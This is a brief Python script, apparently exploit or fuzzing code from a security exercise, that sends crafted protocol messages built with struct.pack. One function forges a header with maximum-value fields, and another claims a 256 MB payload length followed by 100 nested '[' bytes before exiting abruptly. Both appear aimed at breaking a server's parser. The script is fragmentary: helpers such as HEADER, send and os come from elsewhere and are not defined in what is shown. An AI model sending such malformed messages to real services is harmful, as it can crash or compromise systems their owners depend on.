# %%
from kit import *

# %%
import struct


def forge(x):
    send(struct.pack(HEADER, 0xFFFFFFFF, 0xFFFFFFFF, current_request(), 1))


def again(x, shown):
    send(struct.pack(HEADER, 10, 256 << 20, current_request(), 1) + b"[" * 100)
    os._exit(0)
